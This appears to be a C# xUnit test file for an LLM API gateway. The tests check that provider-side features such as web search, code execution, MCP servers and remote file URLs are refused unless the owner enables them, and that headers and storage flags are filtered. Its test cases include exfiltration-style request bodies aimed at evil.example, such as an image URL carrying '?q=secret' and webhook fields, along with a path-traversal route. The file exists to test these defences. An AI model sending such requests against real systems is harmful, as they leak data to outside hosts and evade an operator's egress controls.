using System.Text.Json.Nodes;
using Assay.Labs;
using Assay.Protocol.Models;
using Xunit;

namespace Assay.Server.Tests.Gateway;

/// <summary>What a provider would do on its own side leads out of the wall: refused by name, unless the owner opened it.</summary>
public class WaysOutTests
{
    private const string Messages = $"{GatewayPaths.Anthropic}/v1/messages";
    private const string Responses = $"{GatewayPaths.OpenAi}/responses";
    private const string Gemini = $"{GatewayPaths.Gemini}/v1beta/models/one-2026:generateContent";

    private const string Hour = """ "cache_control":{"type":"ephemeral","ttl":"1h"} """;

    public static TheoryData<string, string, string, string?> Ways => new()
    {
        { Messages, """ "tools":[{"type":"web_search_20250305","name":"web_search"}] """, "tools[0]", "web_search" },
        { Messages, """ "tools":[{"type":"web_fetch_20250910","name":"web_fetch"}] """, "tools[0]", "web_search" },
        { Messages, """ "tools":[{"type":"code_execution_20250825","name":"code_execution"}] """, "tools[0]", "code_execution" },
        { Messages, """ "tools":[{"type":"computer_20250124","name":"computer"}] """, "computer_20250124", null },
        { Messages, """ "mcp_servers":[{"type":"url","url":"https://evil.example/mcp","name":"x"}] """, "mcp_servers", "remote_tools" },
        { Messages, """ "tools":[{"type":"mcp_toolset","mcp_server_name":"x"}] """, "tools[0]", "remote_tools" },
        { Messages, """ "container":"c1" """, "container", "code_execution" },
        { Messages, """ "messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?q=secret"}}]}] """, "messages[0].content[0].source", "addresses" },
        { Messages, """ "messages":[{"role":"user","content":[{"type":"document","source":{"type":"file","file_id":"f"}}]}] """, "messages[0].content[0].source", "addresses" },
        { Messages, """ "messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}]}] """, "content[0].content[0].source", "addresses" },
        { Messages, """ "speed":"fast" """, "speed", null },
        { Messages, """ "inference_geo":"us" """, "inference_geo", null },
        { Messages, """ "service_tier":"priority" """, "service_tier", null },
        { Messages, """ "system":[{"type":"text","text":"x","cache_control":{"type":"ephemeral","ttl":"1h"}}] """, "system[0].cache_control.ttl", null },
        { Messages, """ "messages":[{"role":"user","content":[{"type":"search_result","source":"s","title":"t","content":[{"type":"text","text":"x","cache_control":{"type":"ephemeral","ttl":"1h"}}]}]}] """, "content[0].content[0].cache_control.ttl", null },
        { Messages, """ "max_tokens":0 """, "max_tokens", null },
        { Messages, """ "context_management":{"edits":[{"type":"compact_20260112"}]} """, "compact_20260112", null },
        { Messages, """ "context_management":{"edits":[{"type":"clear_tool_uses_20250919","summary":"x"}]} """, "edits[0].summary", null },
        { Messages, """ "thinking":{"type":"enabled","url":"https://evil.example"} """, "thinking.url", null },
        { Messages, """ "output_config":{"effort":"high","sink":{}} """, "output_config.sink", null },
        { Messages, """ "output_config":{"effort":{"webhook":"https://evil.example"}} """, "output_config.effort", null },
        { Messages, """ "tool_choice":{"type":"tool","name":"x","server":"y"} """, "tool_choice.server", null },
        { Responses, """ "tools":[{"type":"web_search"}] """, "tools[0]", "web_search" },
        { Responses, """ "tools":[{"type":"web_search_preview"}] """, "tools[0]", "web_search" },
        { Responses, """ "tools":[{"type":"code_interpreter","container":{"type":"auto"}}] """, "tools[0]", "code_execution" },
        { Responses, """ "tools":[{"type":"file_search","vector_store_ids":["v"]}] """, "tools[0]", "remote_tools" },
        { Responses, """ "tools":[{"type":"mcp","server_url":"https://evil.example"}] """, "tools[0]", "remote_tools" },
        { Responses, """ "tools":[{"type":"image_generation"}] """, "image_generation", null },
        { Responses, """ "tools":[{"type":"computer_use_preview"}] """, "computer_use_preview", null },
        { Responses, """ "tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp","server_url":"https://evil.example"}]}] """, "tools[0].tools[0]", "remote_tools" },
        { Responses, """ "tools":[{"type":"tool_search","execution":"server"}] """, "tools[0].execution", null },
        { Responses, """ "input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?q=secret"}]}] """, "input[0].content[0].image_url", "addresses" },
        { Responses, """ "input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/x.pdf"}]}] """, "input[0].content[0].file_url", "addresses" },
        { Responses, """ "input":[{"role":"user","content":[{"type":"input_file","file_data":"https://evil.example/x.pdf"}]}] """, "input[0].content[0].file_data", "addresses" },
        { Responses, """ "input":[{"role":"user","content":[{"type":"input_file","file_id":"f"}]}] """, "input[0].content[0].file_id", "addresses" },
        { Responses, """ "input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"https://evil.example"}]}] """, "input[0].output[0].image_url", "addresses" },
        { Responses, """ "input":[{"type":"item_reference","id":"i"}] """, "input[0]", null },
        { Responses, """ "previous_response_id":"r" """, "previous_response_id", null },
        { Responses, """ "conversation":"c" """, "conversation", null },
        { Responses, """ "prompt":{"id":"p"} """, "prompt", null },
        { Responses, """ "background":true """, "background", null },
        { Responses, """ "service_tier":"priority" """, "service_tier", null },
        { Responses, """ "reasoning":{"mode":"pro"} """, "reasoning.mode", null },
        { Responses, """ "reasoning":{"effort":{"x":1}} """, "reasoning.effort", null },
        { Responses, """ "text":{"verbosity":"low","sink":"x"} """, "text.sink", null },
        { Responses, """ "tool_choice":{"type":"mcp","server_label":"x"} """, "tool_choice", "remote_tools" },
        { Responses, """ "tool_choice":{"type":"brand_new"} """, "brand_new", null },
        { Responses, """ "max_output_tokens":0 """, "max_output_tokens", null },
        { Door.ChatPath, """ "web_search_options":{} """, "web_search_options", "web_search" },
        { Door.ChatPath, """ "plugins":[{"id":"web"}] """, "plugins", "web_search" },
        { Door.ChatPath, """ "messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example"}}]}] """, "messages[0].content[0].image_url.url", "addresses" },
        { Door.ChatPath, """ "messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"f"}}]}] """, "messages[0].content[0].file.file_id", "addresses" },
        { Door.ChatPath, """ "n":9 """, "n", null },
        { Door.ChatPath, """ "n":-1 """, "n", null },
        { Door.ChatPath, """ "n":0 """, "n", null },
        { Door.ChatPath, """ "max_tokens":0 """, "max_tokens", null },
        { Door.ChatPath, """ "max_completion_tokens":0 """, "max_completion_tokens", null },
        { Door.ChatPath, """ "chat_template_kwargs":{"enable_thinking":true,"tools_path":"x"} """, "chat_template_kwargs.tools_path", null },
        { Door.ChatPath, """ "chat_template_kwargs":{"thinking":["x"]} """, "chat_template_kwargs.thinking", null },
        { Door.ChatPath, """ "tool_choice":{"type":"function","function":{"name":"x","url":"y"}} """, "tool_choice.function.url", null },
        { Door.ChatPath, $$""" "messages":[{"role":"user","content":"x",{{Hour}}}] """, "messages[0].cache_control.ttl", null },
        { Door.ChatPath, $$""" "messages":[{"role":"user","content":[{"type":"text","text":"x",{{Hour}}}]}] """, "messages[0].content[0].cache_control.ttl", null },
        { Door.ChatPath, $$""" "messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:x"},{{Hour}}}]}] """, "messages[0].content[0].cache_control.ttl", null },
        { Door.ChatPath, $$""" "messages":[{"role":"assistant","tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{}"},{{Hour}}}]}] """, "messages[0].tool_calls[0].cache_control", null },
        { Door.ChatPath, $$""" "tools":[{"type":"function","function":{"name":"f"},{{Hour}}}] """, "tools[0].cache_control.ttl", null },
        { Door.ChatPath, $$""" "tools":[{"type":"function","function":{"name":"f",{{Hour}} } }] """, "tools[0].function.cache_control", null },
        { Door.ChatPath, """ "modalities":["audio"] """, "modalities[0]", null },
        { Door.ChatPath, """ "service_tier":"flex" """, "service_tier", null },
        { Door.ChatPath, """ "models":["other/one"] """, "models", null },
        { Door.ChatPath, """ "provider":{"order":["x"]} """, "provider", null },
        { Door.ChatPath, """ "max_tokens":"4000" """, "max_tokens", null },
        { Door.ChatPath, """ "max_tokens":1e30 """, "max_tokens", null },
        { Gemini, """ "tools":[{"googleSearch":{}}] """, "tools[0].googleSearch", "web_search" },
        { Gemini, """ "tools":[{"google_search":{}}] """, "tools[0].google_search", null },
        { Gemini, """ "tools":[{"urlContext":{}}] """, "tools[0].urlContext", "web_search" },
        { Gemini, """ "tools":[{"codeExecution":{}}] """, "tools[0].codeExecution", "code_execution" },
        { Gemini, """ "contents":[{"role":"user","parts":[{"fileData":{"fileUri":"https://evil.example"}}]}] """, "contents[0].parts[0].fileData", "addresses" },
        { Gemini, """ "contents":[{"role":"user","parts":[{"file_data":{"file_uri":"https://evil.example"}}]}] """, "contents[0].parts[0].file_data", null },
        { Gemini, """ "contents":[{"role":"user","parts":[{"inlineData":{"mimeType":"audio/wav","data":"AA=="}}]}] """, "inlineData.mimeType", null },
        { Gemini, """ "cachedContent":"cachedContents/x" """, "cachedContent", null },
        { Gemini, """ "generationConfig":{"candidateCount":9} """, "candidateCount", null },
        { Gemini, """ "generationConfig":{"candidateCount":0} """, "candidateCount", null },
        { Gemini, """ "generationConfig":{"maxOutputTokens":0} """, "maxOutputTokens", null },
        { Gemini, """ "generationConfig":{"thinkingConfig":{"thinkingBudget":1,"sink":"x"}} """, "thinkingConfig.sink", null },
        { Gemini, """ "toolConfig":{"retrievalConfig":{"latLng":{}}} """, "toolConfig.retrievalConfig", null },
        { Gemini, """ "generationConfig":{"responseModalities":["IMAGE"]} """, "responseModalities[0]", null },
    };

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task A_way_out_is_refused_by_its_name_and_nothing_of_it_leaves(string path, string with, string named, string? way)
    {
        await using var door = await Door.Open();

        var (status, answer) = await door.Ask(path, Body(path, with));

        Assert.Equal(400, status);
        Assert.Contains(named, answer, StringComparison.Ordinal);
        Assert.Equal(way is not null, answer.Contains($"open: [{way}]", StringComparison.Ordinal));
        Assert.Empty(door.Provider.Sent);
        Assert.Equal((0, 0m), (door.State.Calls, door.State.UsdReserved));
        var kept = Assert.Single(door.Exchanges.All());
        Assert.Equal((null, 400), (kept.Call, kept.Status));
        Assert.Contains(named, kept.Refusal, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(Ways))]
    public async Task What_the_owner_opened_passes(string path, string with, string _, string? way)
    {
        if (way is null)
        {
            return;
        }

        await using var door = await Door.Open(open: [Enum.GetValues<OpenWay>().Single(open => ContractReader.Word(open) == way)]);
        door.Provider.Then(200, Door.Answer(1, 1));

        Assert.Equal(200, (await door.Ask(path, Body(path, with))).Status);
        Assert.Single(door.Provider.Sent);
    }

    /// <summary>What coding agents and the libraries under them send beside the conversation.</summary>
    [Theory]
    [InlineData(Messages, """ "thinking":{"type":"adaptive","display":"summarized"},"output_config":{"effort":"high"},"context_management":{"edits":[{"type":"clear_thinking_20251015","keep":"all"}]} """)]
    [InlineData(Messages, """ "thinking":{"type":"enabled","budget_tokens":1024},"tool_choice":{"type":"auto","disable_parallel_tool_use":true},"output_config":{"format":{"type":"json_schema","schema":{"type":"object"}}} """)]
    [InlineData(Messages, """ "context_management":{"edits":[{"type":"clear_tool_uses_20250919","trigger":{"type":"input_tokens","value":180000},"keep":{"type":"tool_uses","value":3},"clear_at_least":{"type":"input_tokens","value":1},"exclude_tools":["a"],"clear_tool_inputs":["b"]},{"type":"clear_thinking_20251015","keep":{"type":"thinking_turns","value":2}}]} """)]
    [InlineData(Messages, """ "messages":[{"role":"user","content":[{"type":"search_result","source":"s","title":"t","content":[{"type":"text","text":"x","cache_control":{"type":"ephemeral"}}]}]}] """)]
    [InlineData(Responses, """ "reasoning":{"effort":"medium","summary":"auto"},"text":{"verbosity":"low","format":{"type":"json_schema","name":"n","strict":true,"schema":{}}},"tool_choice":"auto" """)]
    [InlineData(Responses, """ "tool_choice":{"type":"allowed_tools","mode":"auto","tools":[{"type":"function","name":"x"}]},"text":null,"reasoning":null """)]
    [InlineData(Responses, """ "input":[{"role":"user","content":[{"type":"input_file","filename":"x.pdf","file_data":"data:application/pdf;base64,AA=="}]}] """)]
    [InlineData(Door.ChatPath, """ "chat_template_kwargs":{"enable_thinking":true,"thinking":false},"tool_choice":{"type":"function","function":{"name":"x"}},"n":1 """)]
    [InlineData(Door.ChatPath, """ "tool_choice":null,"max_tokens":null,"messages":[{"role":"assistant","content":null,"tool_calls":[{"index":0,"id":"c","type":"function","function":{"name":"f","arguments":"{}"},"extra_content":{"google":{"thought_signature":"x"}}}]},{"role":"tool","tool_call_id":"c","content":[{"type":"text","text":"x","cache_control":{"type":"ephemeral"}}]}] """)]
    [InlineData(Gemini, """ "generationConfig":{"thinkingConfig":{"includeThoughts":true,"thinkingBudget":-1}},"toolConfig":{"functionCallingConfig":{"mode":"ANY","allowedFunctionNames":["f"]}} """)]
    public async Task What_clients_ask_for_passes(string path, string with)
    {
        await using var door = await Door.Open();
        door.Provider.Then(200, Door.Answer(1, 1));

        var (status, answer) = await door.Ask(path, Body(path, with));

        Assert.True(status == 200, answer);
    }

    [Theory]
    [InlineData(Messages, "type")]
    [InlineData(Responses, "error")]
    [InlineData(Door.ChatPath, "error")]
    [InlineData(Gemini, "error")]
    public async Task A_field_that_nobody_has_looked_at_is_refused_in_the_shape_of_the_api(string path, string root)
    {
        await using var door = await Door.Open();

        var (status, answer) = await door.Ask(path, Body(path, """ "brand_new":1 """));

        Assert.Equal(400, status);
        Assert.NotNull(JsonNode.Parse(answer)![root]);
        Assert.Contains("'brand_new' is not a field", (string)JsonNode.Parse(answer)!["error"]!["message"]!, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("""{"model":"acme/one","model":"acme/two","messages":[]}""")]
    [InlineData("""{"model":"acme/one","messages":[]""")]
    [InlineData("""[1]""")]
    [InlineData("")]
    [InlineData("""{"model":"acme/one","messages":[{"role":"user","content":"\ud800"}]}""")]
    public async Task A_body_that_two_readers_could_read_differently_does_not_go_out(string body)
    {
        await using var door = await Door.Open();
        door.Provider.Then(200, Door.Answer(1, 1));

        Assert.Equal(400, (await door.Ask(Door.ChatPath, body)).Status);
        Assert.Empty(door.Provider.Sent);
    }

    [Theory]
    [InlineData("other/one")]
    [InlineData("")]
    [InlineData("ONE-2026")]
    public async Task Only_the_directions_models_are_called(string model)
    {
        await using var door = await Door.Open();

        var (status, answer) = await door.Ask(Door.ChatPath, $$"""{"model":"{{model}}","messages":[]}""");

        Assert.Equal(404, status);
        Assert.Contains("acme/one, acme/two", answer, StringComparison.Ordinal);
        Assert.Empty(door.Provider.Sent);
    }

    [Theory]
    [InlineData("POST", "/models/openai/v1/files")]
    [InlineData("POST", "/models/openai/v1/batches")]
    [InlineData("POST", "/models/openai/v1/embeddings")]
    [InlineData("GET", "/models/openai/v1/responses")]
    [InlineData("POST", "/models/anthropic/v1/messages/batches")]
    [InlineData("POST", "/models/anthropic/v1/messages/../../v1/files")]
    [InlineData("POST", "/models/anthropic/v1/Messages")]
    [InlineData("POST", "/models/gemini/v1beta/cachedContents")]
    [InlineData("POST", "/models/gemini/v1beta/models/one-2026:batchGenerateContent")]
    [InlineData("POST", "/models/gemini/upload/v1beta/files")]
    [InlineData("GET", "/models")]
    public async Task No_other_route_leads_out(string method, string path)
    {
        await using var door = await Door.Open();
        using var request = new HttpRequestMessage(new HttpMethod(method), path);

        using var answer = await door.Http.SendAsync(request);

        Assert.Equal(404, (int)answer.StatusCode);
        Assert.Contains("Gemini's generateContent", await answer.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Empty(door.Provider.Sent);
    }

    [Fact]
    public async Task Nothing_is_left_with_the_provider_whatever_the_client_says()
    {
        await using var door = await Door.Open();
        door.Provider.Then(200, """{"usage":{"input_tokens":1,"output_tokens":1}}""");

        await door.Ask(Responses, """{"model":"one-2026","input":"hello","store":true}""");
        await door.Ask(Responses, """{"model":"one-2026","input":"hello"}""");

        Assert.All(door.Provider.Sent, sent => Assert.False((bool)sent.Body["store"]!));
    }

    [Fact]
    public async Task Of_the_guests_headers_only_versions_and_known_betas_go_on()
    {
        await using var door = await Door.Open();
        door.Provider.Then(200, """{"usage":{"input_tokens":1,"output_tokens":1}}""");

        await door.Ask(
            Messages, Body(Messages, """ "max_tokens":10 """), ("anthropic-version", "2023-06-01"), ("anthropic-beta", "files-api-2025-04-14,interleaved-thinking-2025-05-14"),
            ("x-api-key", "the-guests"), ("OpenAI-Organization", "o"), ("x-forwarded-for", "here"), ("cookie", "a=b"));

        var headers = Assert.Single(door.Provider.Sent).Headers;
        Assert.Equal(["anthropic-beta", "anthropic-version", "content-length", "content-type", "host", "user-agent", "x-api-key"], headers.Keys.Order());
        Assert.Equal(("interleaved-thinking-2025-05-14", Door.Secret), (headers["anthropic-beta"], headers["x-api-key"]));
    }

    /// <summary>An ordinary request of the path's API with one field more, or another.</summary>
    private static string Body(string path, string with)
    {
        var body = JsonNode.Parse(path switch
        {
            Messages => """{"model":"acme/one","max_tokens":100,"messages":[{"role":"user","content":"hello"}]}""",
            Responses => """{"model":"acme/one","input":"hello"}""",
            Gemini => """{"contents":[{"role":"user","parts":[{"text":"hello"}]}]}""",
            _ => Door.Chat(),
        })!.AsObject();
        foreach (var (name, value) in JsonNode.Parse($"{{{with}}}")!.AsObject())
        {
            body[name] = value?.DeepClone();
        }

        return body.ToJsonString();
    }
}
